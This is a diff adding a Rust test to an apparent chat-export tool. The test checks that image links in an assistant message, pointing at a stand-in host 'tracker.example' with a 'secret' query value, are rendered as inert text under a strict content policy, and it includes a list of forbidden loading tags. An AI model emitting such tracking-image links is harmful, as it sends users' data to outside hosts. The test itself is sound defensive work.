@@ -103,6 +103,21 @@ fn a_page_needs_nothing_and_holds_no_markup_of_others() {
 }
 
 #[test]
+fn a_page_loads_no_image_that_an_answer_names() {
+    let sandbox = Sandbox::new();
+    let answer = "![chart](https://tracker.example/p.png?q=secret) <img src=https://tracker.example/b.png>\n\n[x]: https://tracker.example/c.png";
+    let line = serde_json::json!({"id": "01R", "head": "01M", "messages": [{"id": "01M", "role": "assistant",
+        "text": answer, "reasoning": answer}]});
+    import(&sandbox, "remote.jsonl", &line.to_string());
+    let page = export(&sandbox, "html");
+    assert_eq!(page.matches("tracker.example").count(), 6, "it is shown as text, as often as it was said: {page}");
+    for loading in ["<img", "src=\"http", "src=http", "href=\"http", "url(", "@import", "<link", "<iframe", "<object"] {
+        assert!(!page.replace("&lt;img src=https", "").contains(loading), "{loading} in {page}");
+    }
+    assert!(page.contains("default-src 'none'; style-src 'unsafe-inline'; img-src data:"), "{page}");
+}
+
+#[test]
 fn markdown_reads_well_and_its_fences_hold() {
     let sandbox = Sandbox::new();
     import(&sandbox, "everything.jsonl", EVERYTHING);
